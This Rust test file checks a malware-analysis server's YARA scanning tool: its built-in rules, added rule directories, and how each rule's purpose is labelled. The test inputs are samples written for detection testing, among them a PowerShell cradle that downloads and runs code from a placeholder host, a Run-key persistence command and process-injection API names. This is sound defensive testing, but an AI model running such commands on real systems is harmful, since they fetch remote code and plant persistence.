//! yara_scan works on a fresh install: the built-in rules fire on what they are for, stay quiet
//! on a plain PE, and a configured rules directory adds to them (or, with the built-in set off,
//! replaces them). Each match says its rule's purpose: identification (packers, installers: identity)
//! or detection (known-bad content), and a third-party rule's is inferred or unclassified.
#![cfg(feature = "yara")]

mod corpus;

use std::sync::Arc;

use maljan_analysis::{AnalysisConfig, registry};
use maljan_server::{Roots, ToolServer};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

const EICAR: &str = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

struct Server {
    dir: tempfile::TempDir,
    server: Arc<ToolServer>,
}

impl Server {
    fn new(rules: Option<&str>, builtin_rules: bool) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let samples = dir.path().join("samples");
        std::fs::create_dir(&samples).unwrap();
        let rules_dir = rules.map(|r| {
            let d = dir.path().join("rules");
            std::fs::create_dir(&d).unwrap();
            std::fs::write(d.join("local.yar"), r).unwrap();
            d
        });
        let config = AnalysisConfig {
            roots: Roots::new([&samples]).unwrap(),
            work_dir: maljan_analysis::WorkDir::private_under(dir.path()).unwrap(),
            rules_dir,
            builtin_rules,
        };
        let server = ToolServer::new("analysis", "test", registry(config));
        Self { dir, server }
    }

    fn write(&self, name: &str, data: &[u8]) -> String {
        let p = self.dir.path().join("samples").join(name);
        std::fs::write(&p, data).unwrap();
        p.display().to_string()
    }

    async fn scan(&self, args: Value) -> (Value, bool) {
        let Value::Object(map) = args else { panic!() };
        let out = self
            .server
            .call("yara_scan", map, CancellationToken::new(), None)
            .await
            .unwrap();
        (out.value, out.is_error)
    }

    async fn rules_hit(&self, args: Value) -> Vec<String> {
        let (v, err) = self.scan(args).await;
        assert!(!err, "yara_scan failed: {v}");
        assert_eq!(v["compile_errors"], json!([]), "{v}");
        v["matches"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["rule"].as_str().unwrap().to_string())
            .collect()
    }
}

/// A PE (the corpus's plain one) with `extra` written over its zero padding at 0x600.
fn pe_with_strings(extra: &[&str]) -> Vec<u8> {
    let mut b = corpus::pe();
    let joined = extra.join("\0");
    b.extend_from_slice(joined.as_bytes());
    b
}

#[tokio::test]
async fn a_fresh_install_scans_with_the_built_in_rules() {
    let s = Server::new(None, true);
    let m = s.server.manifest();
    let tool = m.tool("yara_scan").unwrap();
    assert!(tool.available, "{:?}", tool.reason);

    let (v, err) = s.scan(json!({"text": EICAR})).await;
    assert!(!err, "{v}");
    assert_eq!(v["builtin_rule_files"], 4, "{v}");
    assert_eq!(v["rule_files"], 0);
    assert_eq!(v["compile_errors"], json!([]));
    assert_eq!(v["matches"][0]["rule"], "EICAR_test_file");
    assert_eq!(v["matches"][0]["namespace"], "builtin_test_files");
    assert_eq!(v["matches"][0]["metadata"]["category"], "test");
    assert_eq!(v["matches"][0]["purpose"], "detection");
    assert_eq!(v["matches"][0]["metadata"]["family"], "EICAR-Test-File");
    assert_eq!(v["matches"][0]["strings"][0]["offset"], 0);

    // The plain corpus PE trips nothing.
    let plain = s.write("plain.exe", &corpus::pe());
    assert_eq!(
        s.rules_hit(json!({"path": plain})).await,
        Vec::<String>::new()
    );

    // Section names and the UPX! header of a UPX-packed PE.
    let upx = s.write("upx.exe", &corpus::packed::upx_pe());
    assert_eq!(s.rules_hit(json!({"path": upx})).await, ["Packer_UPX"]);
    let (v, _) = s.scan(json!({"path": upx})).await;
    assert_eq!(v["matches"][0]["purpose"], "identification", "{v}");

    // Allocate, write, start a thread in another process.
    let inject = s.write(
        "inject.exe",
        &pe_with_strings(&[
            "OpenProcess",
            "VirtualAllocEx",
            "WriteProcessMemory",
            "CreateRemoteThread",
        ]),
    );
    assert_eq!(
        s.rules_hit(json!({"path": inject})).await,
        ["API_Process_Injection"]
    );
    let (v, _) = s.scan(json!({"path": inject})).await;
    assert_eq!(v["matches"][0]["purpose"], "detection");
    assert_eq!(v["matches"][0]["metadata"]["fact"], "process_injection");
    // The same names in a DLL are its export table's, not calls: quiet.
    let mut dll = pe_with_strings(&[
        "OpenProcess",
        "VirtualAllocEx",
        "WriteProcessMemory",
        "CreateRemoteThread",
        "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "RegSetValueExW",
    ]);
    dll[0x80 + 23] |= 0x20; // IMAGE_FILE_DLL (0x2000): the characteristics' high byte
    let dll = s.write("kernel.dll", &dll);
    assert_eq!(
        s.rules_hit(json!({"path": dll})).await,
        Vec::<String>::new()
    );
    // Without OpenProcess, allocating and writing is what debuggers and loaders do too.
    let partial = s.write(
        "partial.exe",
        &pe_with_strings(&["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"]),
    );
    assert_eq!(
        s.rules_hit(json!({"path": partial})).await,
        Vec::<String>::new()
    );

    // A PE inside another file.
    let dropper = [b"GIF89a junk ".repeat(200), corpus::pe()].concat();
    let dropper = s.write("dropper.gif", &dropper);
    assert_eq!(
        s.rules_hit(json!({"path": dropper})).await,
        ["Dropper_Embedded_PE"]
    );

    // A PowerShell download cradle.
    let ps = "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\"";
    assert_eq!(
        s.rules_hit(json!({"text": ps})).await,
        ["Downloader_PowerShell_Cradle"]
    );
    // A Run key written by a script.
    let bat = r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d c:\x.exe";
    assert_eq!(
        s.rules_hit(json!({"text": bat})).await,
        ["Persistence_Run_Key"]
    );
    // Every built-in rule declares its purpose.
    for (name, src) in maljan_analysis::yara::BUILTIN_RULES {
        let rules = src.matches("\nrule ").count();
        // (In a rule's meta block, not in the file's comments.)
        let declared = src
            .matches("\n        purpose = \"identification\"")
            .count()
            + src.matches("\n        purpose = \"detection\"").count();
        assert_eq!(rules, declared, "{name}: every rule declares its purpose");
    }

    // No rules directory: a named ruleset is refused with a way out.
    let (v, err) = s.scan(json!({"text": "x", "ruleset": "mine"})).await;
    assert!(err);
    assert_eq!(v["error"]["code"], "bad_argument");
}

const LOCAL_RULE: &str = r#"rule local_marker { strings: $m = "LocalMarker42" condition: $m }"#;

#[tokio::test]
async fn a_rules_directory_adds_to_the_built_in_rules() {
    let s = Server::new(Some(LOCAL_RULE), true);
    let text = format!("{EICAR} LocalMarker42");
    let mut hits = s.rules_hit(json!({"text": text})).await;
    hits.sort();
    assert_eq!(hits, ["EICAR_test_file", "local_marker"]);
    // "builtin" is the built-in set alone.
    assert_eq!(
        s.rules_hit(json!({"text": text, "ruleset": "builtin"}))
            .await,
        ["EICAR_test_file"]
    );
}

#[test]
fn a_third_party_rule_s_purpose_is_declared_inferred_or_unclassified() {
    use maljan_analysis::yara::purpose;
    let meta = |pairs: &[(&str, &str)]| {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), json!(v)))
            .collect::<serde_json::Map<_, _>>()
    };
    assert_eq!(
        purpose("X", &[], &meta(&[("purpose", "detection")])),
        "detection"
    );
    assert_eq!(
        purpose("X", &[], &meta(&[("category", "Packer")])),
        "identification"
    );
    assert_eq!(
        purpose("X", &["compiler".into()], &meta(&[])),
        "identification"
    );
    assert_eq!(purpose("PEiD_UPX_v3", &[], &meta(&[])), "identification");
    assert_eq!(
        purpose("Emotet_Loader", &[], &meta(&[("family", "Emotet")])),
        "unclassified"
    );
}

#[tokio::test]
async fn without_the_built_in_set_the_directory_replaces_it() {
    let s = Server::new(Some(LOCAL_RULE), false);
    let text = format!("{EICAR} LocalMarker42");
    let (v, err) = s.scan(json!({"text": text})).await;
    assert!(!err, "{v}");
    assert_eq!(v["builtin_rule_files"], 0);
    assert_eq!(v["rule_files"], 1);
    assert_eq!(v["matches"].as_array().unwrap().len(), 1);
    assert_eq!(v["matches"][0]["rule"], "local_marker");
    assert_eq!(v["matches"][0]["purpose"], "unclassified");
    let (v, err) = s.scan(json!({"text": text, "ruleset": "builtin"})).await;
    assert!(err);
    assert_eq!(v["error"]["code"], "bad_argument");

    // Neither: unavailable, and the manifest says how to fix it.
    let none = Server::new(None, false);
    let m = none.server.manifest();
    let tool = m.tool("yara_scan").unwrap();
    assert!(!tool.available);
    assert!(tool.remediation.as_deref().unwrap().contains("--rules-dir"));
}
